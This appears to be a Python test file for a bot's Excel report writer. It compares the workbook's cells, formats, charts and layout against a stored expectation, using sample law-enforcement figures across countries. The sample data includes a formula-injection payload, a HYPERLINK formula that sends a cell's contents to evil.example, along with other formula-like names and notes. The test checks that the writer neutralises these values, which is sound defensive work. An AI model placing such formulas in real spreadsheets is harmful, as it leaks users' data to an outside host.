"""The workbook holds what it held: every sheet's cells (value, type, number format, bold,
font size, fill, wrapping, quote prefix), merged ranges, frozen panes, filters, column widths,
row heights, hidden rows and the chart, against an expectation stored from the code before
the workbook was made faster (``tests/report_xlsx_same.json``).

A deliberate change to the workbook's content regenerates it:
``.venv/bin/python -m tests.test_report_xlsx_same`` (and the diff is then reviewed).
"""

from __future__ import annotations

import io
import json
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl.worksheet._writer
import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

from bot.config import Rate
from bot.reports.figures import JointOp, ReportData
from bot.reports.xlsx import to_xlsx
from bot.returns.metrics import DEFAULT_METRICS
from bot.returns.repo import DRAFT, LATE, MISSING, NOT_DUE, SUBMITTED
from tests.returns_support import open_period

FIXTURE = Path(__file__).with_name("report_xlsx_same.json")
SHEETS = ["Summary", "By country", "W1 figures", "W2 figures", "W3 figures", "Status"]
SHEETS += ["Joint operations"]
EVIL = '=HYPERLINK("http://evil.example/?"&B8)'
NAMES = {"AU": "Australia <&>", "MY": "Malaysia", "TH": "Thailand", "XX": "@Evilland", "US": ""}
STATUSES = {  # (window, country): every status, a country with no return at all (US)
    **{(1, c): SUBMITTED for c in ("AU", "MY", "TH")},
    (1, "XX"): LATE,
    (1, "US"): MISSING,
    (2, "AU"): DRAFT,
    (2, "MY"): SUBMITTED,
    (2, "TH"): SUBMITTED,
    (2, "XX"): MISSING,
    (2, "US"): MISSING,
    **{(3, c): NOT_DUE for c in NAMES},
}
WINDOW_SUMS = {  # (window, country, metric, currency) -> amount; money in hundredths
    (1, "AU", "arrests", ""): 10,
    (1, "MY", "arrests", ""): 4,  # op:SONGKHLA-3, which Thailand did not report: discrepancy
    (1, "TH", "arrests", ""): 3,
    (1, "XX", "arrests", ""): 0,
    (1, "TH", "assets_restrained", "THB"): 12_345_67,
    (1, "AU", "assets_restrained", "USD"): 9_000_50,
    (1, "MY", "victims_rescued", ""): 1_234,
    (2, "MY", "arrests", ""): 6,  # op:SONGKHLA-3 again, both report 6: resolved at 6
    (2, "TH", "arrests", ""): 6,
    (2, "MY", "search_warrants", ""): 5,  # op:KLANG-1, 5 and 3: a discrepancy
    (2, "TH", "search_warrants", ""): 3,
    (2, "TH", "assets_restrained", "THB"): 1_00,
}


def sample() -> ReportData:
    """Three monthly windows, five countries (a formula-like name, an empty one), counts,
    money in two currencies totalled in USD, notes (one formula-like), joint operations."""
    period = open_period("JPA-S", "Same Workbook Period", date(2027, 3, 31), NAMES)
    sums: dict[tuple[str, str, str], int] = {}
    for (_seq, country, metric, currency), amount in WINDOW_SUMS.items():
        sums[(country, metric, currency)] = sums.get((country, metric, currency), 0) + amount
    joints = (
        JointOp("SONGKHLA-3", "arrests", 1, {"MY": 4}, ("MY", "TH")),
        JointOp("SONGKHLA-3", "arrests", 2, {"MY": 6, "TH": 6}, ("MY", "TH"), resolved=6),
        JointOp("KLANG-1", "search_warrants", 2, {"MY": 5, "TH": 3}, ("MY", "TH")),
    )
    texts = {
        ("TH", "notes"): (EVIL, "second note"),
        ("MY", "notes"): ("  plain, padded  ",),
        ("XX", "notes"): ("\r=1+1", "tab\there & <b>, line\r\nbreak"),  # escaped, kept
    }
    rates = {"THB": Rate(rate=0.028, date=date(2027, 3, 1))}
    return ReportData(period, NAMES, sums, texts, STATUSES, WINDOW_SUMS, "USD", rates, joints)


def cell_facts(cell: Cell | MergedCell) -> list[Any]:
    """What a reader sees of one cell."""
    fill = cell.fill.fgColor.rgb if cell.fill.fill_type else None
    font, align = cell.font, cell.alignment
    return [
        cell.coordinate,
        cell.value,
        cell.data_type,
        cell.number_format,
        bool(font.bold),
        font.size,
        fill,
        bool(align.wrap_text),
        align.vertical,
        bool(cell.quotePrefix),
    ]


def chart_facts(sheet: Worksheet) -> list[dict[str, Any]]:
    """Each chart's kind, place, size and the cells it draws."""
    found = []
    for chart in sheet._charts:  # type: ignore[attr-defined]
        marker = chart.anchor._from
        found.append(
            {
                "kind": [chart.tagname, chart.type, chart.legend is None],
                "at": [marker.col, marker.row, chart.anchor.ext.cx, chart.anchor.ext.cy],
                "title": [r.t for p in chart.title.tx.rich.p for r in p.r or ()],
                "hidden_cells_drawn": not chart.visible_cells_only,
                "series": [
                    [s.tx.strRef.f, s.val.numRef.f, s.cat.numRef.f if s.cat.numRef else None]
                    for s in chart.series
                ]
                + [[s.cat.strRef.f] for s in chart.series if s.cat.strRef],
            }
        )
    return found


def sheet_facts(sheet: Worksheet) -> dict[str, Any]:
    """Everything the workbook says about one sheet."""
    return {
        "cells": [cell_facts(c) for _key, c in sorted(sheet._cells.items())],
        "merged": sorted(str(r) for r in sheet.merged_cells.ranges),
        "freeze": sheet.freeze_panes,
        "filter": sheet.auto_filter.ref,
        "widths": {k: d.width for k, d in sorted(sheet.column_dimensions.items()) if d.customWidth},
        "heights": {str(k): d.height for k, d in sorted(sheet.row_dimensions.items()) if d.height},
        "hidden_rows": [k for k, d in sorted(sheet.row_dimensions.items()) if d.hidden],
        "charts": chart_facts(sheet),
    }


def facts(xlsx: bytes) -> dict[str, Any]:
    """Every sheet's facts, in the workbook's order, as JSON stores them."""
    book = load_workbook(io.BytesIO(xlsx))
    sheets = {sheet.title: sheet_facts(sheet) for sheet in book.worksheets}
    return {"order": book.sheetnames, "sheets": json.loads(json.dumps(sheets))}


@pytest.fixture(scope="module")
def made() -> dict[str, Any]:
    return facts(to_xlsx(sample()))


def expected() -> dict[str, Any]:
    return dict(json.loads(FIXTURE.read_text(encoding="utf-8")))


def test_the_same_sheets_in_the_same_order(made: dict[str, Any]) -> None:
    assert made["order"] == expected()["order"] == SHEETS


@pytest.mark.parametrize("sheet", SHEETS)
@pytest.mark.parametrize(
    "fact", ["cells", "merged", "freeze", "filter", "widths", "heights", "hidden_rows", "charts"]
)
def test_every_sheet_holds_what_it_held(made: dict[str, Any], sheet: str, fact: str) -> None:
    assert made["sheets"][sheet][fact] == expected()["sheets"][sheet][fact]


def test_the_sample_has_what_the_comparison_is_for(made: dict[str, Any]) -> None:
    """The stored expectation covers joint operations, two currencies and formula-like text."""
    sheets = made["sheets"]
    quoted = [c[1] for s in sheets.values() for c in s["cells"] if c[9]]  # quote-prefixed
    assert f"{EVIL} | second note" in quoted and "@Evilland" in quoted
    formats = {c[3] for c in sheets["By country"]["cells"]}
    assert {'"THB "#,##0.00', '"USD "#,##0.00', "#,##0", "@"} <= formats
    assert sheets["Summary"]["charts"] and sheets["Summary"]["merged"]


def test_text_keeps_its_spaces_and_line_ends_in_the_file_itself() -> None:
    """What openpyxl's reader does not show: Excel trims a text's spaces unless the file says
    to keep them, and XML reads a bare carriage return as a line feed."""
    with zipfile.ZipFile(io.BytesIO(to_xlsx(sample()))) as xlsx:
        by_country = xlsx.read("xl/worksheets/sheet2.xml").decode()
    assert '<t xml:space="preserve">  plain, padded  </t>' in by_country
    note = "&#13;=1+1 | tab\there &amp; &lt;b&gt;, line&#13;\nbreak"  # as openpyxl escapes it
    assert f'<t xml:space="preserve">{note}</t>' in by_country


def w5_sized() -> ReportData:
    """BENCH.md W5's shape: 50 countries × 16 metrics (money in USD) × 12 windows."""
    codes = [f"C{n:02d}" for n in range(50)]
    period = open_period("JPA-W5", "Large", date(2027, 12, 31), codes)
    windows = period.windows
    figures = [(m.key, "USD" if m.kind == "money" else "") for m in DEFAULT_METRICS]
    window_sums = {
        (w.seq, code, key, currency): w.seq + n
        for w in windows
        for n, code in enumerate(codes)
        for key, currency in figures[:-1]  # the last is the text metric, notes
    }
    sums: dict[tuple[str, str, str], int] = {}
    for (_seq, code, key, currency), amount in window_sums.items():
        sums[(code, key, currency)] = sums.get((code, key, currency), 0) + amount
    texts: dict[tuple[str, str], tuple[str, ...]] = {(c, "notes"): (f"note {c}",) for c in codes}
    statuses = {(w.seq, code): SUBMITTED for w in windows for code in codes}
    names = {code: f"Country {code}" for code in codes}
    return ReportData(period, names, sums, texts, statuses, window_sums)


def test_a_large_workbook_is_written_row_by_row_not_cell_by_cell(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """openpyxl's writer made and serialised an object per cell: ~70 % of W5's time (about
    17,000 cells, 206–249 ms for a 200 ms bar); the rows are written as XML instead."""
    written: list[object] = []
    cell_writer = openpyxl.worksheet._writer.write_cell  # type: ignore[attr-defined]

    def counted(*args: Any) -> None:
        written.append(args[2])
        cell_writer(*args)

    monkeypatch.setattr(openpyxl.worksheet._writer, "write_cell", counted)
    book = load_workbook(io.BytesIO(to_xlsx(w5_sized())))
    assert len(written) == 0
    sheet = book["W12 figures"]
    assert sheet.max_row == 52 and sheet.max_column == 18  # head, 50 countries, total
    assert sheet["D2"].value == 12 and sheet["D2"].number_format == "#,##0"
    assert sheet["R51"].value == 12 + 49 and sheet["B52"].font.bold


def dump(found: dict[str, Any]) -> str:
    """The facts as JSON with one line per cell, so that a change reads as a short diff."""

    def line(value: object) -> str:
        return json.dumps(value, ensure_ascii=False)

    sheets = []
    for title, sheet in found["sheets"].items():
        rest = [f"   {line(k)}: {line(v)}" for k, v in sheet.items() if k != "cells"]
        cells = ",\n    ".join(line(c) for c in sheet["cells"])
        body = ",\n".join([f'   "cells": [\n    {cells}\n   ]', *rest])
        sheets.append(f"  {line(title)}: {{\n{body}\n  }}")
    joined = ",\n".join(sheets)
    return f'{{\n "order": {line(found["order"])},\n "sheets": {{\n{joined}\n }}\n}}\n'


if __name__ == "__main__":
    FIXTURE.write_text(dump(facts(to_xlsx(sample()))), encoding="utf-8")
